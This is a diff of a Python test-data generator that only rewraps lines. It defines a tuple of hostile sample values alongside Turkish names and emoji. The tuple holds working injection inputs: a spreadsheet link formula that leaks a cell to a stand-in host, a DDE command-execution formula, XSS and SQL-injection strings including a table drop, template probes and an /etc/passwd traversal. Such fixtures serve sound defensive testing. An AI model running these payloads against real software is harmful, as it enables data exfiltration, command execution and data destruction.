@@ -207,11 +207,11 @@ OTHER_SCRIPTS = (
 EMOJI = ("Ece 🌸", "👩‍💻 Deniz", "Can 🇹🇷", "👨‍👩‍👧‍👦 Aile Hesabı", "Ali 👍🏽")
 HOSTILE = (
     '=HYPERLINK("http://example.invalid/?leak="&A1,"Tıkla")', "=1+1", "+905321234567", "-2+3",
-    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '"Tırnak" Ayşe', "O'Brien", "Kaya, Ali; Dr.", "iki\nsatır", "üç\r\nsatır",
-    "<script>alert(1)</script>", "<b>&amp;</b>", "]]>", "' OR 1=1 --", "'; drop table users; --",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '"Tırnak" Ayşe', "O'Brien", "Kaya, Ali; Dr.", "iki\nsatır",
+    "üç\r\nsatır", "<script>alert(1)</script>", "<b>&amp;</b>", "]]>", "' OR 1=1 --", "'; drop table users; --",
     ") Tj (", "(a) Tj ET Q\\", "\\) \\( \\\\", "%PDF-1.7 endobj", "{{7*7}} ${7*7} %s %n", "../../etc/passwd",
-    "\u202etxt.exe\u202c", "Ay\u200bşe\u200d\ufeff", "control \x01\x07\x08\x1b[31m\x7f", "\ufffd\ufffe", "   ", "\u00a0",
-    "NULL", "null", "NaN", "007", "1e5", "a\u0301\u0323\u0308" * 12,
+    "\u202etxt.exe\u202c", "Ay\u200bşe\u200d\ufeff", "control \x01\x07\x08\x1b[31m\x7f", "\ufffd\ufffe", "   ",
+    "\u00a0", "NULL", "null", "NaN", "007", "1e5", "a\u0301\u0323\u0308" * 12,
     "Şükrü " * 50, "Ğ" * 300, "VeryLongNameWithoutAnySpace" * 11, "龍" * 150,
 )  # fmt: skip
 
@@ -240,7 +240,8 @@ GENERATORS: Mapping[str, Callable[[Path], None]] = {"users": write_users}
 
 USER_COLUMNS = {
     "id": "bigint", "user_id": "varchar", "full_name": "varchar", "email": "varchar", "role": "varchar",
-    "city": "varchar", "status": "varchar", "registered_on": "date", "last_seen_at": "timestamp", "balance": "decimal(18,2)",
+    "city": "varchar", "status": "varchar", "registered_on": "date", "last_seen_at": "timestamp",
+    "balance": "decimal(18,2)",
 }  # fmt: skip
 
 
